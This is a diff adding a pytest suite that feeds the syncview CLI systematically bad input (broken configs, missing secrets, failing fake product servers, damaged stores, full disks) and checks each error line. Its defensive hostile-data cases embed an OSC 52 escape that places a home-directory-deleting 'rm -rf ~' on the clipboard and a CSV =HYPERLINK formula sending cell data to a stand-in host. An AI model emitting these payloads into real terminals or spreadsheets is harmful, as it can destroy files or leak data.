@@ -1,0 +1,625 @@
+"""Bad input, tried systematically: every row of ``CASES`` is one input an operator's setup, a
+product or a disk can throw at syncview, and the exact line the operator then sees.
+
+Each case prepares real files (config, store), real loopback servers (the fake products of
+``tests/connectors/fakes``), then runs one headless command and checks:
+
+- the exit status (1 for a failure; 0 where the input is survivable, e.g. a skipped row);
+- the one line the operator sees, exactly, once temporary paths and ports are replaced by
+  ``<tmp>`` and ``<port>``: for a failure, the only ``syncview: error:`` line on stderr, with
+  no traceback; for a survivable input, a line of its output;
+- nothing partly written: the store's data tables hold exactly what they held before
+  (a failed sync may add its failed run and log line, and nothing else).
+
+``docs/bad-input.md`` is this table rendered; ``test_the_doc_is_the_table`` fails when they
+differ. After changing a case, regenerate the doc with
+``SYNCVIEW_UPDATE_DOCS=1 .venv/bin/pytest tests/reliability/test_bad_input.py -k doc``.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+import shutil
+import socket
+import sqlite3
+import subprocess
+from collections.abc import Callable, Iterator
+from contextlib import closing
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+from sqlalchemy import Engine, event
+
+from syncview.connectors import http
+from tests.connectors.fakes.halopsa import FakeHaloPsa
+from tests.reliability.conftest import HALO_SECRET, HALO_SECRET_VAR, halo_config
+from tests.reliability.support import (
+    DATA_TABLES,
+    TIMEOUT,
+    Ran,
+    assert_consistent,
+    command,
+    content,
+    environment,
+    invoke,
+    query,
+)
+
+DOC = Path(__file__).parents[2] / "docs" / "bad-input.md"
+
+
+@dataclass(frozen=True, slots=True)
+class QuickRetry(http.RetryPolicy):
+    """The HTTP layer's retry policy with test-sized waits: three tries, backoff of milliseconds.
+
+    ``Retry-After`` is still honoured as the server says (a 429 storm waits its real seconds).
+    """
+
+    attempts: int = 3
+    backoff: float = 0.01
+    max_backoff: float = 0.05
+
+
+class World:
+    """One case's surroundings: a directory, the store and config paths, fake servers, the environment."""
+
+    def __init__(self, directory: Path, serve, demo_template: Path) -> None:
+        self.dir = directory
+        self.serve = serve
+        self.demo_template = demo_template
+        self.db = directory / "syncview.db"
+        self.config: Path | None = None
+        self.env: dict[str, str] = {HALO_SECRET_VAR: HALO_SECRET}
+        self.cleanups: list[Callable[[], None]] = []
+        #: the case needs a process of its own, run as an unprivileged user when the tests run as root
+        self.unprivileged = False
+
+    # ---- config
+
+    def write_config(self, text: str) -> Path:
+        self.config = self.dir / "config.toml"
+        self.config.write_text(text, encoding="utf-8")
+        self.config.chmod(0o600)
+        return self.config
+
+    def halo(self, fake: FakeHaloPsa | None = None, *, url: str | None = None, secret: str | None = None,
+             extra: str = "") -> FakeHaloPsa:
+        """A HaloPSA fake on loopback and a config for it ("Halo"), its secret from an env: reference."""
+        fake = fake or FakeHaloPsa()
+        base = url or self.serve(fake)
+        self.write_config(halo_config(base, extra=extra) if secret is None
+                          else halo_config(base, secret=secret, extra=extra))
+        return fake
+
+    def halo_synced(self, fake: FakeHaloPsa | None = None) -> FakeHaloPsa:
+        """A Halo integration already synced once into the store, so a failing sync has data to spoil."""
+        fake = self.halo(fake)
+        invoke("--db", self.db, "--config", self.config, "sync", "Halo", env=self.env).ok()
+        return fake
+
+    # ---- store
+
+    def demo_store(self) -> Path:
+        shutil.copyfile(self.demo_template, self.db)
+        return self.db
+
+    def limit_pages(self) -> None:
+        """A full disk: every connection syncview opens on the store may not grow it past its size now.
+
+        ``PRAGMA max_page_count`` is per connection, so it is set on each connection the
+        store's engine opens (a listener on every engine); SQLite then fails the write that
+        needs one more page with SQLITE_FULL, as it does on a full disk, through the same
+        code path: the store's transaction, its rollback and its error translation.
+        """
+        db = str(self.db)
+        pages = query(self.db, "PRAGMA page_count")[0][0]
+
+        def on_connect(dbapi_connection, _record) -> None:
+            if dbapi_connection.execute("PRAGMA database_list").fetchone()[2] == db:
+                dbapi_connection.execute(f"PRAGMA max_page_count = {pages}")
+
+        event.listen(Engine, "connect", on_connect)
+        self.cleanups.append(lambda: event.remove(Engine, "connect", on_connect))
+
+
+def free_port() -> int:
+    """A loopback port with nothing listening (bound, then closed)."""
+    with closing(socket.socket()) as sock:
+        sock.bind(("127.0.0.1", 0))
+        return sock.getsockname()[1]
+
+
+# --------------------------------------------------------------------------- the cases
+
+
+@dataclass(frozen=True)
+class Case:
+    id: str
+    #: what was tried, for the doc
+    tried: str
+    #: the command, as an operator types it (for the doc; the run adds --db and --config)
+    command: str
+    #: prepares the world, returns the command's arguments
+    setup: Callable[[World], list[str]]
+    #: the exact line the operator sees, with <tmp>, <port>... for what changes between runs
+    sees: str
+    code: int = 1
+    #: for a survivable input: the line is one of stdout's lines, and the store may change
+    survivable: bool = False
+    #: needs a process of its own (file permissions: run without root's override under root)
+    process: bool = False
+    #: once the cause is gone (the world's cleanups undone), the same command succeeds
+    retry_ok: bool = False
+
+
+def _broken_toml(w: World) -> list[str]:
+    w.write_config('[[integrations]]\nname = "Halo"\nkind = halopsa\n')
+    return ["status"]
+
+
+def _half_written_toml(w: World) -> list[str]:
+    w.write_config('[[integrations]]\nname = "Halo"\nkind = "halo')  # the editor died mid-save
+    return ["status"]
+
+
+def _half_written_table(w: World) -> list[str]:
+    w.write_config('[[integrations]]\nname = "Halo"\nkind = "halopsa"\n[[integr')
+    return ["status"]
+
+
+def _missing_config(w: World) -> list[str]:
+    w.config = w.dir / "confg.toml"  # a typo in --config
+    return ["status"]
+
+
+def _not_utf8(w: World) -> list[str]:
+    w.write_config("")
+    w.config.write_bytes('[[integrations]]\nname = "Caf\xe9"\n'.encode("latin-1"))
+    return ["status"]
+
+
+def _unknown_kind(w: World) -> list[str]:
+    w.write_config('[[integrations]]\nname = "Halo"\nkind = "halo_psa"\n')
+    return ["status"]
+
+
+def _literal_secret(w: World) -> list[str]:
+    w.halo(secret="HaloS3cret!value")
+    return ["status"]
+
+
+def _unset_env(w: World) -> list[str]:
+    w.halo(secret="env:SYNCVIEW_TEST_UNSET")
+    w.env.pop("SYNCVIEW_TEST_UNSET", None)
+    return ["sync", "Halo"]
+
+
+def _env_without_name(w: World) -> list[str]:
+    w.halo(secret="env:")
+    return ["sync", "Halo"]
+
+
+def _empty_env(w: World) -> list[str]:
+    w.halo()
+    w.env[HALO_SECRET_VAR] = ""
+    return ["sync", "Halo"]
+
+
+def _failing_cmd(w: World) -> list[str]:
+    w.halo(secret="cmd:false")
+    return ["sync", "Halo"]
+
+
+def _unreachable(w: World) -> list[str]:
+    w.halo(url=f"http://127.0.0.1:{free_port()}")
+    return ["sync", "Halo"]
+
+
+def _tls_to_plain_http(w: World) -> list[str]:
+    w.halo(url=w.serve(FakeHaloPsa()).replace("http://", "https://"))
+    return ["sync", "Halo"]
+
+
+def _wrong_secret(w: World) -> list[str]:
+    w.halo(FakeHaloPsa(client_secret="another-secret"))
+    return ["sync", "Halo"]
+
+
+def _status(status: int, times: int = 100, **fault) -> Callable[[World], list[str]]:
+    def setup(w: World) -> list[str]:
+        fake = w.halo_synced()
+        fake.fail(status, path="/api/Client", times=times, **fault)
+        return ["sync", "Halo"]
+    return setup
+
+
+def _body(body: bytes | str, content_type: str = "application/json") -> Callable[[World], list[str]]:
+    return _status(200, times=1, body=body, headers={"Content-Type": content_type})
+
+
+def _malformed_rows(w: World) -> list[str]:
+    fake = FakeHaloPsa(clients=3, assets_per_client=0, users_per_client=0)
+    fake.records["clients"][1] = {"id": 2, "name": None}  # no name
+    fake.records["clients"][2] = {"id": {"nested": True}, "name": 7}  # wrong types
+    w.halo(fake)
+    return ["sync", "Halo"]
+
+
+def _hostile_names(w: World) -> FakeHaloPsa:
+    fake = FakeHaloPsa(clients=1, assets_per_client=3, users_per_client=0)
+    assets = fake.records["assets"]
+    assets[0]["key_field"] = "EVIL-\x1b]52;c;cm0gLXJmIH4=\x07-PC\x1b[2J"  # clipboard write, clear screen
+    assets[1]["key_field"] = "=HYPERLINK(\"http://x.test/?\"&A1,\"open\")"
+    assets[2]["key_field"] = "HUGE-" + "X" * 100_000
+    w.halo(fake)
+    invoke("--db", w.db, "--config", w.config, "sync", "Halo", env=w.env).ok()
+    return fake
+
+
+def _escapes_on_screen(w: World) -> list[str]:
+    _hostile_names(w)
+    return ["resources", "--filter", "evil"]
+
+
+def _formula_in_csv(w: World) -> list[str]:
+    _hostile_names(w)
+    return ["export", "--format", "csv", "--filter", "hyperlink"]
+
+
+def _huge_name_on_screen(w: World) -> list[str]:
+    _hostile_names(w)
+    return ["resources", "--filter", "huge"]
+
+
+def _not_sqlite(w: World) -> list[str]:
+    w.db.write_text("these are my notes, not a database\n", encoding="utf-8")
+    return ["status"]
+
+
+def _other_sqlite(w: World) -> list[str]:
+    with closing(sqlite3.connect(w.db)) as conn:
+        conn.execute("CREATE TABLE invoices (id INTEGER PRIMARY KEY, total REAL)")
+    return ["status"]
+
+
+def _truncated_store(w: World) -> list[str]:
+    w.demo_store()
+    data = w.db.read_bytes()
+    w.db.write_bytes(data[: len(data) // 2])  # a copy cut short
+    return ["status"]
+
+
+def _newer_schema(w: World) -> list[str]:
+    w.demo_store()
+    with closing(sqlite3.connect(w.db)) as conn:
+        conn.execute("PRAGMA user_version = 99")
+    return ["status"]
+
+
+def _read_only_file(w: World) -> list[str]:
+    w.demo_store()
+    resource_id = query(w.db, "SELECT id FROM resource WHERE status = 'matched' ORDER BY id LIMIT 1")[0][0]
+    w.dir.chmod(0o777)
+    w.db.chmod(0o444)
+    return ["exclude", str(resource_id)]
+
+
+def _read_only_dir(w: World) -> list[str]:
+    w.demo_store()
+    resource_id = query(w.db, "SELECT id FROM resource WHERE status = 'matched' ORDER BY id LIMIT 1")[0][0]
+    w.db.chmod(0o666)
+    w.dir.chmod(0o555)
+    w.cleanups.append(lambda: w.dir.chmod(0o755))
+    return ["exclude", str(resource_id)]
+
+
+def _full_disk_sync(w: World) -> list[str]:
+    fake = FakeHaloPsa(clients=300, assets_per_client=0, users_per_client=0)
+    w.write_config(halo_config(w.serve(fake)).replace("page_size = 5", "page_size = 500"))
+    invoke("--db", w.db, "--config", w.config, "status", env=w.env).ok()  # the store exists, Halo registered
+    w.limit_pages()
+    return ["sync", "Halo"]
+
+
+def _full_disk_demo(w: World) -> list[str]:
+    invoke("--db", w.db, "status", env=w.env).ok()  # creates the store, empty
+    w.limit_pages()
+    return ["demo", "--resources", "2000"]
+
+
+CASES: tuple[Case, ...] = (
+    # ---- config
+    Case("broken-toml", "config: a value without quotes (`kind = halopsa`)",
+         "syncview status", _broken_toml,
+         ("syncview: error: config error in <tmp>/config.toml, line 3, column 8: invalid value (is it text? "
+          'text needs double quotes: key = "value")')),
+    Case("half-written-toml", "config: the file ends inside a string (an editor died mid-save)",
+         "syncview status", _half_written_toml,
+         "syncview: error: config error in <tmp>/config.toml, at the end of the file: unterminated string"),
+    Case("half-written-table", "config: the file ends inside a table header (`[[integr`)",
+         "syncview status", _half_written_table,
+         ("syncview: error: config error in <tmp>/config.toml, at the end of the file: expected ']]' at the "
+          "end of an array declaration")),
+    Case("missing-config", "config: `--config` names a file that does not exist",
+         "syncview --config confg.toml status", _missing_config,
+         ("syncview: error: config file <tmp>/confg.toml does not exist (asked for by --config or "
+          "SYNCVIEW_CONFIG); fix the path, or start from config.example.toml")),
+    Case("not-utf8", "config: a file saved in Latin-1, not UTF-8",
+         "syncview status", _not_utf8,
+         "syncview: error: config error in <tmp>/config.toml: the file is not UTF-8 text; save it as UTF-8"),
+    Case("unknown-kind", 'config: `kind = "halo_psa"`, no such connector',
+         "syncview status", _unknown_kind,
+         ('syncview: error: config error in <tmp>/config.toml: integrations[1] ("Halo"): kind "halo_psa" is '
+          'unknown (did you mean "halopsa"?); known kinds: autotask, connectwise, datto_rmm, demo, files, '
+          "halopsa")),
+    Case("literal-secret", "config: a secret written in the file instead of a reference",
+         "syncview status", _literal_secret,
+         ('syncview: error: config error in <tmp>/config.toml: integrations[1] ("Halo"): client_secret is a '
+          "secret and must not be written in the file; move it to an environment variable and write "
+          'client_secret = "env:HALO_CLIENT_SECRET", or to the keyring (keyring set syncview "Halo") and '
+          'write client_secret = "keyring:syncview/Halo", or fetch it with a command: client_secret = '
+          '"cmd:pass show ..."')),
+    Case("env-unset", "secret: `env:SYNCVIEW_TEST_UNSET`, a variable that is not set",
+         "syncview sync Halo", _unset_env,
+         ('syncview: error: integration "Halo", setting client_secret: "env:SYNCVIEW_TEST_UNSET": '
+          "environment variable SYNCVIEW_TEST_UNSET is not set; export it before starting syncview")),
+    Case("env-no-name", "secret: `env:` with no variable name",
+         "syncview sync Halo", _env_without_name,
+         ('syncview: error: config error in <tmp>/config.toml: integrations[1] ("Halo"): client_secret: '
+          'reference "env:" needs an environment variable name, e.g. "env:CW_PRIVATE_KEY"')),
+    Case("env-empty", "secret: `env:VAR` where VAR is set to the empty string",
+         "syncview sync Halo", _empty_env,
+         ('syncview: error: integration "Halo", setting client_secret: "env:SYNCVIEW_TEST_HALO_SECRET" gives '
+          "an empty secret; set the value it points to")),
+    Case("cmd-fails", "secret: `cmd:false`, a command that fails",
+         "syncview sync Halo", _failing_cmd,
+         ('syncview: error: integration "Halo", setting client_secret: "cmd:false": false failed with exit '
+          "status 1; run it yourself to see why")),
+    # ---- network and products
+    Case("unreachable", "network: the product's port on loopback with nothing listening (connection refused)",
+         "syncview sync Halo", _unreachable,
+         ("syncview: error: Halo: cannot connect to 127.0.0.1 after 3 attempts (ConnectError: [Errno 111] "
+          "Connection refused); check the host name, the network and any firewall or proxy")),
+    Case("tls-plain-http", "network: an https:// URL to a plain-HTTP server (TLS handshake fails)",
+         "syncview sync Halo", _tls_to_plain_http,
+         ("syncview: error: Halo: secure connection to 127.0.0.1 failed after 3 attempts (ConnectError: "
+          "[SSL: WRONG_VERSION_NUMBER] wrong version number (_ssl.c:<line>)); check the host name, the system "
+          "clock, and any proxy that intercepts TLS")),
+    Case("wrong-secret", "product: the secret is wrong (OAuth `invalid_client`)",
+         "syncview sync Halo", _wrong_secret,
+         ("syncview: error: authentication failed for Halo: /auth/token refused the token request: "
+          "invalid_client; check client_id, client_secret and tenant, and that the API application may read "
+          "clients, sites, assets and users")),
+    Case("401", "product: 401 on a list even with a fresh token",
+         "syncview sync Halo", _status(401),
+         ("syncview: error: authentication failed for Halo: GET /api/Client answered 401 (refused the "
+          "credentials); check client_id, client_secret and tenant, and that the API application may read "
+          "clients, sites, assets and users")),
+    Case("403", "product: 403 (the API user may not read clients)",
+         "syncview sync Halo", _status(403, body={"message": "Access denied for this application"}),
+         ("syncview: error: authentication failed for Halo: GET /api/Client answered 403 (denied access): "
+          "Access denied for this application; check client_id, client_secret and tenant, and that the API "
+          "application may read clients, sites, assets and users")),
+    Case("404", "product: 404 (wrong URL, or the API is disabled)",
+         "syncview sync Halo", _status(404),
+         ("syncview: error: Halo: GET /api/Client answered 404 (not found); check the integration's URL "
+          "settings, and that this API is enabled for the account")),
+    Case("429-storm", "product: 429 with `Retry-After: 1` on every request",
+         "syncview sync Halo", _status(429, headers={"Retry-After": "1"}),
+         ("syncview: error: Halo: still rate limited after 3 attempts (/api/Client answered 429); sync again "
+          "later, or lower this integration's rate_limit")),
+    Case("429-long-wait", "product: 429 asking to wait an hour (`Retry-After: 3600`)",
+         "syncview sync Halo", _status(429, headers={"Retry-After": "3600"}),
+         ("syncview: error: Halo: halopsa rate limit reached (/api/Client answered 429) and it asks to wait "
+          "3600 s, more than the 300 s syncview waits; sync again later, or lower this integration's "
+          "rate_limit")),
+    Case("500", "product: 500 on every request",
+         "syncview sync Halo", _status(500, body={"message": "Database unavailable"}),
+         ("syncview: error: Halo: GET /api/Client answered 500 (Internal Server Error): Database "
+          "unavailable; the halopsa service is failing, try again later")),
+    Case("truncated", "product: a JSON body cut off mid-way",
+         "syncview sync Halo", _body('{"record_count": 3, "clients": [{"id": 1, "name": "Halo Cl'),
+         ("syncview: error: Halo: GET /api/Client answered a body that is not JSON (truncated or an error "
+          'page?), starting \'{"record_count": 3, "clients": [{"id": 1, "name": "Halo Cl\'; the halopsa API '
+          "may have changed, or a proxy answered instead of it")),
+    Case("not-json", "product: an HTML page where JSON was expected (a proxy's login page)",
+         "syncview sync Halo", _body("<html><body>Please sign in to the proxy</body></html>", "text/html"),
+         ("syncview: error: Halo: GET /api/Client answered a body that is not JSON (truncated or an error "
+          "page?), starting '<html><body>Please sign in to the proxy</body></html>'; the halopsa API may "
+          "have changed, or a proxy answered instead of it")),
+    Case("wrong-shape", 'product: a page whose list is a string (`"clients": "none"`)',
+         "syncview sync Halo", _body('{"record_count": 3, "clients": "none"}'),
+         ('syncview: error: Halo: GET /api/Client answered an object without a "clients" list; the halopsa '
+          "API may have changed, or a proxy answered instead of it")),
+    Case("malformed-rows", "product: rows without a name, or with an object as id and a number as name",
+         "syncview sync Halo", _malformed_rows,
+         ("Halo: success in <t> s: 4 fetched, 4 new, 0 changed, 0 newly matched, 0 records created, 0 "
+          "removed remotely; now 0 matched, 4 not synced, 0 excluded — 2 warnings: some items were skipped "
+          "(see the log)"), code=0, survivable=True),
+    # ---- hostile remote data
+    Case("escape-sequences", "remote data: a device name holding terminal escape sequences (OSC 52 clipboard "
+         "write, clear screen)",
+         "syncview resources --filter evil", _escapes_on_screen,
+         r"3   EVIL-\x1b]52;c;cm0gLXJmIH4=\x07-PC\x1b[2J  Device  Not Synced  —             Halo Client 01  just now",
+         code=0, survivable=True),
+    Case("csv-formula", "remote data: a device name that is a spreadsheet formula (`=HYPERLINK(...)`)",
+         "syncview export --format csv --filter hyperlink", _formula_in_csv,
+         ('4,1,device,1002,"\'=HYPERLINK(""http://x.test/?""&A1,""open"")",not_synced,,,,Halo Client '
+          "01,,,<time>,false,1,,"), code=0, survivable=True),
+    Case("huge-name", "remote data: a device name of 100 000 characters",
+         "syncview resources --filter huge", _huge_name_on_screen,
+         "5   HUGE-" + "X" * 127 + "…  Device  Not Synced  —             Halo Client 01  just now",
+         code=0, survivable=True),
+    # ---- the store file
+    Case("not-sqlite", "store: a text file, not a database",
+         "syncview status", _not_sqlite,
+         ("syncview: error: <tmp>/syncview.db is not a syncview store (not an SQLite database); choose "
+          "another --db path")),
+    Case("other-sqlite", "store: an SQLite database of another program",
+         "syncview status", _other_sqlite,
+         ("syncview: error: <tmp>/syncview.db is an SQLite database but not a syncview store; choose another "
+          "--db path")),
+    Case("truncated-store", "store: a copy of the store cut off at half its size",
+         "syncview status", _truncated_store,
+         ("syncview: error: <tmp>/syncview.db is not a syncview store or is damaged (SQLite says: database "
+          "disk image is malformed); choose another --db path, or restore a backup with `syncview restore "
+          "BACKUP`")),
+    Case("newer-schema", "store: written by a newer syncview (schema 99)",
+         "syncview status", _newer_schema,
+         ("syncview: error: <tmp>/syncview.db was written by a newer syncview (schema 99; this one reads up "
+          "to <N>): upgrade syncview, or use another --db path")),
+    Case("read-only-file", "store: the file is read-only (chmod 0444)",
+         "syncview exclude ID", _read_only_file,
+         ("syncview: error: the store <tmp>/syncview.db is read-only; nothing was written: check the "
+          "permissions of the file and of its directory (the write-ahead log is made beside it)"), process=True),
+    Case("read-only-dir", "store: its directory is read-only (chmod 0555), so no write-ahead log can be made",
+         "syncview exclude ID", _read_only_dir,
+         ("syncview: error: the store <tmp>/syncview.db is read-only; nothing was written: check the "
+          "permissions of the file and of its directory (the write-ahead log is made beside it)"), process=True),
+    Case("full-disk-sync", "store: the disk fills up during a sync",
+         "syncview sync Halo", _full_disk_sync,
+         ("syncview: error: Halo: the disk holding <tmp>/syncview.db is full; nothing was written: free some "
+          "space and retry"), retry_ok=True),
+    Case("full-disk-demo", "store: the disk fills up while seeding the demo",
+         "syncview demo", _full_disk_demo,
+         ("syncview: error: the disk holding <tmp>/syncview.db is full; nothing was written: free some space "
+          "and retry"), retry_ok=True),
+)
+
+
+# --------------------------------------------------------------------------- running a case
+
+
+def normalise(text: str, world: World) -> str:
+    """A line as the doc shows it: temporary paths, ports, times and durations replaced by placeholders."""
+    text = text.replace(str(world.dir), "<tmp>").strip()
+    text = re.sub(r"127\.0\.0\.1:\d+", "127.0.0.1:<port>", text)
+    text = re.sub(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?\+00:00", "<time>", text)
+    text = re.sub(r"this one reads up to \d+", "this one reads up to <N>", text)
+    text = re.sub(r"\(_ssl\.c:\d+\)", "(_ssl.c:<line>)", text)  # the line of CPython's ssl module
+    return re.sub(r" in \d+\.\d s", " in <t> s", text)
+
+
+#: Root ignores file modes (CAP_DAC_OVERRIDE): a process of its own without that power sees them.
+_WITHOUT_ROOT_OVERRIDE = ["setpriv", "--bounding-set=-dac_override,-dac_read_search"]
+
+
+def _run(case: Case, world: World, args: list[str]) -> Ran:
+    prefix = ["--db", world.db] + (["--config", world.config] if world.config else [])
+    if not case.process:
+        return invoke(*prefix, *args, env=world.env)
+    launcher: list[str] = []
+    if os.geteuid() == 0:
+        if not shutil.which("setpriv"):
+            pytest.skip("running as root without setpriv: file modes cannot be made to bind")
+        launcher = _WITHOUT_ROOT_OVERRIDE
+    done = subprocess.run([*launcher, *command(*prefix, *args)], env=environment({**world.env, "COLUMNS": "200"}),
+                          capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=TIMEOUT)
+    return Ran(tuple(map(str, args)), done.returncode, done.stdout, done.stderr)
+
+
+def _stored(world: World) -> dict[str, list[tuple]] | bytes | None:
+    if not world.db.exists():
+        return None
+    if world.db.read_bytes()[:16] != b"SQLite format 3\x00":
+        return world.db.read_bytes()
+    try:
+        return content(world.db, DATA_TABLES)
+    except sqlite3.DatabaseError:
+        return world.db.read_bytes()
+
+
+@pytest.fixture
+def world(tmp_path, serve, _demo_template, monkeypatch) -> Iterator[World]:
+    monkeypatch.setattr(http, "RetryPolicy", QuickRetry)
+    w = World(tmp_path, serve, _demo_template)
+    yield w
+    for cleanup in reversed(w.cleanups):
+        cleanup()
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
+def test_bad_input(case: Case, world: World) -> None:
+    args = case.setup(world)
+    before = _stored(world)
+    result = _run(case, world, args)
+    assert "Traceback" not in result.stdout + result.stderr, result.stderr
+    assert result.code == case.code, f"exit {result.code}\n{result.stdout}\n{result.stderr}"
+    if case.survivable:
+        seen = [normalise(line, world) for line in result.stdout.splitlines()]
+        assert case.sees in seen, "\n".join(seen)
+        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", result.stdout), "a raw control character reached the screen"
+        assert_consistent(world.db)
+        return
+    line = normalise(result.error_line(), world)
+    assert line == case.sees
+    assert _stored(world) == before, "the store changed"
+    if isinstance(before, dict):
+        assert_consistent(world.db)
+    if case.retry_ok:
+        for cleanup in reversed(world.cleanups):
+            cleanup()
+        world.cleanups.clear()
+        _run(case, world, args).ok()
+        assert_consistent(world.db)
+
+
+# --------------------------------------------------------------------------- the doc
+
+
+DOC_HEAD = """# Bad input: what was tried and what you see
+
+Every row is a test case of `tests/reliability/test_bad_input.py` (this file is generated
+from its `CASES` table, and a test fails when the two differ). Each case builds the input for
+real: config files, SQLite stores, fake product servers on a loopback socket, a full disk
+(SQLite's page limit on every connection syncview opens, which fails a write with SQLITE_FULL
+exactly as a full disk does) and read-only files (checked in a process without root's override
+of file modes). Then it runs the command and checks the exit status and the exact line below.
+
+A failing command exits with status 1 and prints that one line on standard error: no
+traceback, and the store holds exactly what it held before (a failed sync records its failed
+run, nothing else). A full disk is then freed and the same command run again: it succeeds.
+Network failures are retried (three tries in the tests, five by default) before the line is
+printed. In the lines, `<tmp>` stands for the test's directory, `<port>` for a loopback port,
+`<t>` and `<time>` for a duration and a time, `<N>` for this syncview's schema version and
+`<line>` for a line of Python's ssl module.
+
+| # | input tried | command | exit | what you see |
+| --- | --- | --- | --- | --- |
+"""
+
+
+def _code(text: str) -> str:
+    """``text`` as a code span inside a Markdown table cell."""
+    text = text.replace("|", "\\|")
+    fence = "``" if "`" in text else "`"
+    pad = " " if text.startswith("`") or text.endswith("`") else ""
+    return f"{fence}{pad}{text}{pad}{fence}"
+
+
+def _cell(text: str) -> str:
+    return text.replace("|", "\\|")
+
+
+def render_doc() -> str:
+    rows = [f"| {number} | {_cell(case.tried)} | {_code(case.command)} | {case.code} | {_code(case.sees)} |"
+            for number, case in enumerate(CASES, start=1)]
+    return DOC_HEAD + "\n".join(rows) + "\n"
+
+
+def test_the_doc_is_the_table() -> None:
+    """docs/bad-input.md is CASES rendered: a case added, changed or removed shows in the doc."""
+    if os.environ.get("SYNCVIEW_UPDATE_DOCS"):
+        DOC.parent.mkdir(exist_ok=True)
+        DOC.write_text(render_doc(), encoding="utf-8")
+    assert DOC.exists() and DOC.read_text(encoding="utf-8") == render_doc(), (
+        "docs/bad-input.md differs from CASES; regenerate it with "
+        "SYNCVIEW_UPDATE_DOCS=1 .venv/bin/pytest tests/reliability/test_bad_input.py -k doc")
+
+
+def test_every_case_has_its_own_id_and_line() -> None:
+    ids = [case.id for case in CASES]
+    assert len(ids) == len(set(ids))
+    assert all(case.code == 0 or case.sees.startswith("syncview: error: ") for case in CASES)
